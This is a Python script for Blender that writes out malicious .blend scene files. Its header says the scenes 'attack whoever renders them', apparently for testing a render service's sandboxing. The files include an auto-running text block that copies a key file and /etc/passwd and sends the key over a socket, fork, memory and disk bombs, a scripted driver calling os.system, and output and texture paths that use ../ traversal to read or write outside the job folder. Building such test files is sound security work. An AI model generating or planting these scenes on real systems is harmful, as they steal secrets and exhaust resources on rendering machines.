# Makes scenes that attack whoever renders them. Run in Blender:
#   blender -b --factory-startup -P hostile.py -- OUTPUT-FOLDER OUTSIDE-FOLDER KEY-FILE PORT
import os
import sys

import bpy

out, outside, key, port = sys.argv[sys.argv.index("--") + 1:]
escaped = os.path.join(outside, "escaped-")

# What a script of a scene would do, were it ever run.
PAYLOAD = """
import os, socket
def attempt(f):
    try: f()
    except Exception: pass
attempt(lambda: open(%(escaped)r + "script", "w").write(open(%(key)r).read()))
attempt(lambda: os.system("cp /etc/passwd " + %(escaped)r + "passwd"))
attempt(lambda: socket.create_connection(("127.0.0.1", %(port)s), 2).send(open(%(key)r, "rb").read()))
""" % {"escaped": escaped, "key": key, "port": port}


def scene():
    bpy.ops.wm.read_factory_settings(use_empty=True)
    s = bpy.context.scene
    s.render.engine = "CYCLES"
    s.cycles.samples = 1
    s.cycles.use_denoising = False
    s.render.resolution_x, s.render.resolution_y, s.render.resolution_percentage = 32, 32, 100
    camera = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
    camera.location = (0, 0, 5)
    s.collection.objects.link(camera)
    s.camera = camera
    mesh = bpy.data.meshes.new("plane")
    mesh.from_pydata([(-2, -2, 0), (2, -2, 0), (2, 2, 0), (-2, 2, 0)], [], [(0, 1, 2, 3)])
    mesh.uv_layers.new()
    plane = bpy.data.objects.new("plane", mesh)
    s.collection.objects.link(plane)
    return s, plane


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(out, name + ".blend"), compress=False)


def text(body, name):
    t = bpy.data.texts.new(name)
    t.write(body)
    t.use_module = True  # "Register": run when the file is opened


def image(plane, path):
    material = bpy.data.materials.new("m")
    material.use_nodes = True
    node = material.node_tree.nodes.new("ShaderNodeTexImage")
    picture = bpy.data.images.new("i", 8, 8)
    picture.source = "FILE"
    picture.filepath = path
    node.image = picture
    bsdf = material.node_tree.nodes["Principled BSDF"]
    material.node_tree.links.new(node.outputs["Color"], bsdf.inputs["Emission"])
    plane.data.materials.append(material)


scene()
text(PAYLOAD, "attack.py")
save("autorun")

scene()
for name, body in {"fork": "import os\nwhile True: os.fork()", "memory": "b = []\nwhile True: b.append(bytearray(1 << 28))",
                   "disk": "f = open('disk', 'wb')\nwhile True: f.write(bytes(1 << 20))"}.items():
    text(body, name + ".py")
save("bombs")

_, plane = scene()
curve = plane.driver_add("location", 0)
curve.driver.type = "SCRIPTED"
curve.driver.expression = "__import__('os').system('touch %sdriver') or 0.0" % escaped  # 255 letters at most
save("driver")

for name, folder in {"output-absolute": outside, "output-parent": "//../../../../../../.." + outside, "output-slot": "//"}.items():
    s, _ = scene()
    s.use_nodes = True
    s.render.use_compositing = True
    node = s.node_tree.nodes.new("CompositorNodeOutputFile")
    node.base_path = folder
    node.file_slots[0].path = "escaped-node-" if name != "output-slot" else "../../../../../../.." + escaped + "slot-"
    s.node_tree.links.new(s.node_tree.nodes["Render Layers"].outputs["Image"], node.inputs[0])
    s.render.filepath = escaped + "filepath-"
    save(name)

for name, path in {"texture-passwd": "/etc/passwd", "texture-key": key, "texture-parent": "//../../../../../../../etc/passwd"}.items():
    _, plane = scene()
    image(plane, path)
    save(name)

s, _ = scene()
s.render.engine = "CYCLES"
s.render.use_stamp = True
s.render.filepath = "//../../../../../.." + escaped + "filepath-"
s.cycles.samples = 1
s.world = bpy.data.worlds.new("w")
save("paths")
